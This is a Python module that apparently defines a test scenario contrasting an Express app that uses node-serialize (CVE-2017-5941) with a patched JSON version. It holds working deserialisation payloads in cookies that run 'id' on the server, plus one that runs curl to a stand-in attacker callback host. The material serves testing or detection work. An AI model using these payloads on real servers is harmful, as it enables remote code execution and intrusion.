"""node-serialize of npm: a function in a cookie runs while it is read. There is no repaired release.

The second service is the same application after it was moved to JSON.
"""

import json
from base64 import b64encode
from urllib.parse import quote

from .application import Application, Ask, Effect, Release, Side, Visit
from .common import CALLBACK_PORT, COMMAND_OUTPUT, visitors

_ATTACKER = "203.0.113.74"


def _cookie(profile: dict[str, str]) -> dict[str, str]:
    return {"Cookie": f"profile={quote(b64encode(json.dumps(profile).encode()))}"}


def _run(code: str, tries: Effect, called: str = "()") -> Ask:
    profile = {"username": f"_$$ND_FUNC$$_function(){{{code}}}{called}"}
    return Ask(
        "/",
        headers=_cookie(profile),
        tries=tries,
        holds=COMMAND_OUTPUT if tries is Effect.CONTENT else (),
    )


_ID = "return require('child_process').execSync('id').toString()"
_CALL = f"require('child_process').exec('curl -s http://{_ATTACKER}:{CALLBACK_PORT}/x')"

NODE_SERIALIZE = Application(
    name="node-serialize",
    product="express",
    purl="pkg:npm/express",
    cve="CVE-2017-5941",
    kind="deserialisation",
    installer="npm",
    sides={
        Release.VULNERABLE: Side(
            "4.21.2",
            ("express@4.21.2", "node-serialize@0.0.4", "morgan@1.10.0"),
            ("pkg:npm/node-serialize@0.0.4",),
        ),
        Release.PATCHED: Side("4.21.2", ("express@4.21.2", "morgan@1.10.0")),
    },
    command=("node", "/srv/program/serve.js", "PORT"),
    visits=(
        *visitors(("/", "/about")),
        Visit(
            "198.51.100.61",
            "comes back with its profile",
            (Ask("/", headers=_cookie({"username": "Maria", "city": "Ulm"})),),
            listed=False,
        ),
        Visit("203.0.113.73", "runs a command and reads its output", (Ask("/"), _run(_ID, Effect.CONTENT))),
        Visit(_ATTACKER, "lets the server call", (_run(_CALL, Effect.CALLBACK),)),
        Visit(
            "203.0.113.75",
            "sends a function that is never called",
            (_run(_ID, Effect.CONTENT, called=""),),
        ),
        Visit(
            "203.0.113.73",
            "tries the same where JSON is read",
            (_run(_ID, Effect.CONTENT),),
            Release.PATCHED,
        ),
    ),
)
